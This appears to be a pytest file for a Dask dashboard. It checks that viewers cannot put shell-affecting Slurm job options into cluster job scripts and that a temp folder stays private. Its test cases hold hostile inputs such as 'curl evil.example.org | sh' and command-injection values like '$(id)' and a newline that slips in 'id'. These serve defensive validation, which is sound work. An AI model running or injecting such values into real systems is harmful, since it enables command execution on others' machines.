"""Only the server's owner sets what reaches a shell on the cluster; the manager refuses others.

No Slurm is needed: job scripts are built offline (dask-jobqueue's Job, no submission), and the
clusters started are real LocalClusters. The browser side is in tests/browser/test_auth_browser.py.
"""

from __future__ import annotations

import dask.config
import pytest

from dashapp.cluster import ClusterError, viewer_refusal
from dashapp.state.cluster import ClusterForm

from .test_manager import run

PLAIN = {"cores": 2, "memory": "4GB", "queue": "debug", "account": "m1234", "walltime": "00:30:00"}


@pytest.mark.parametrize(
    ("options", "refused"),
    [
        (PLAIN, None),
        ({**PLAIN, "job_extra_directives": [], "job_script_prologue": []}, None),  # unset
        ({**PLAIN, "job_script_prologue": ["curl evil.example.org | sh"]}, "job_script_prologue"),
        ({**PLAIN, "job_extra_directives": ["--wrap=id"]}, "job_extra_directives"),
        ({**PLAIN, "env_extra": ["export A=1"]}, "env_extra"),
        ({**PLAIN, "interface": "ib0; id"}, "interface"),
        ({**PLAIN, "local_directory": "/tmp/x"}, "local_directory"),
        ({**PLAIN, "log_directory": "/tmp/x"}, "log_directory"),
        ({**PLAIN, "python": "/bin/sh -c id #"}, "python"),
        ({**PLAIN, "worker_extra_args": ["--preload", "x.py"]}, "worker_extra_args"),
        ({**PLAIN, "queue": "debug\nid"}, "queue"),  # a newline is a new line of the script
        ({**PLAIN, "account": "m1234 $(id)"}, "account"),
        ({**PLAIN, "memory": True}, "memory"),
    ],
)
def test_what_a_viewer_may_set(options, refused):
    problem = viewer_refusal({"kind": "slurm", "options": options})
    if refused is None:
        assert problem is None
    else:
        assert problem is not None
        assert refused in problem
        assert "only the person who started this server" in problem


def test_a_viewer_cannot_connect_the_server_to_another_scheduler():
    assert "connect" in viewer_refusal({"kind": "connect", "options": {"address": "tcp://x:1"}})


def test_the_manager_refuses_a_viewers_shell_options(manager):
    spec = {"kind": "slurm", "options": {**PLAIN, "job_script_prologue": ["id > /tmp/pwned"]}}
    with pytest.raises(ClusterError, match="job_script_prologue; nothing was submitted"):
        manager.job_script(spec, privileged=False)
    problems = run(manager.validate(spec, privileged=False))
    assert len(problems) == 1
    assert "job_script_prologue" in problems[0]
    with pytest.raises(ClusterError, match="job_script_prologue"):
        run(manager.start(spec, privileged=False))
    local = {"kind": "local", "workers": 0, "options": {"memory_limit": "1GB", "python": "sh"}}
    with pytest.raises(ClusterError, match="python"):
        run(manager.start(local, privileged=False))
    with pytest.raises(ClusterError, match="connect"):
        run(manager.connect("tcp://127.0.0.1:1", privileged=False))
    assert manager.info()["status"] == "none"  # nothing was started
    # the owner (and a notebook: privileged by default) may
    assert "id > /tmp/pwned" in manager.job_script(spec)


def test_a_viewer_gets_the_sites_settings(manager):
    """A viewer's job script has the site's prologue and directives (Dask config), not theirs."""
    site = {
        "jobqueue.slurm.job-script-prologue": ["module load site-python"],
        "jobqueue.slurm.job-extra-directives": ["--constraint=cpu"],
    }
    with dask.config.set(site):
        form = ClusterForm(owner=False)
        form.kind = "slurm"
        assert form.prologue == "module load site-python"  # shown, read-only in the pane
        form.param.update(**{k: v for k, v in PLAIN.items() if k != "cores"}, cores=2)
        form.param.update(prologue="id > /tmp/pwned", job_directives="--wrap=id")
        spec = form.spec()
        assert not set(spec["options"]) & {"job_script_prologue", "job_extra_directives"}
        script = manager.job_script(spec, privileged=False)
    assert "module load site-python" in script
    assert "#SBATCH --constraint=cpu" in script
    assert "pwned" not in script
    assert "--wrap" not in script
    local = ClusterForm(owner=False)
    local.param.update(kind="local", workers=0, memory_limit="1GB")
    try:
        info = run(manager.start(local.spec(), privileged=False))
        assert info["status"] == "running"
    finally:
        run(manager.stop())


def test_a_viewers_form_has_no_connect_and_owner_is_fixed():
    form = ClusterForm(owner=False)
    assert "connect" not in form.param.kind.objects
    with pytest.raises(ValueError, match="connect"):
        form.kind = "connect"
    with pytest.raises(TypeError):  # not settable after creation (a widget cannot flip it)
        form.owner = True
    assert "connect" in ClusterForm().param.kind.objects


def test_the_server_group_folder_is_private(monkeypatch, tmp_path):
    """Its name is predictable: one made first by another user (to drop requests with their
    job script into it) is not used; one of ours left open is closed."""
    import os
    import tempfile

    import tornado.process

    from dashapp.cluster.siblings import server_group

    monkeypatch.delenv("DASHAPP_CLUSTER_GROUP", raising=False)
    monkeypatch.setattr(tornado.process, "task_id", lambda: 0)  # a child of --num-procs
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    mine = tmp_path / f"dashapp-{os.getuid()}"
    group = server_group()
    assert group is not None
    assert group.parent == mine
    assert mine.stat().st_mode & 0o777 == 0o700
    mine.chmod(0o777)
    assert server_group() is not None
    assert mine.stat().st_mode & 0o777 == 0o700
    if os.getuid() == 0:  # root can play the other user
        os.chown(mine, 65534, 65534)
        mine.chmod(0o777)
        assert server_group() is None
    mine.rmdir()
    mine.symlink_to(tmp_path)  # a link to somewhere else
    assert server_group() is None
